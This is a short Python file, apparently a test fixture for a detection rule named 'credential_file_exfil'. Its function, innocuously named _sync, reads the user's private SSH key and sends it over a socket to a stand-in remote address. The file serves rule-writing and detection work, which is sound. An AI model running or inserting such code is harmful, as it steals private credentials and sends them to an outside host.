import socket
from pathlib import Path


def _sync():
    # ruleid: yara.exfiltration.credential_file_exfil
    key = (Path.home() / ".ssh" / "id_rsa").read_bytes()
    s = socket.create_connection(("192.0.2.10", 9000))
    s.sendall(key)
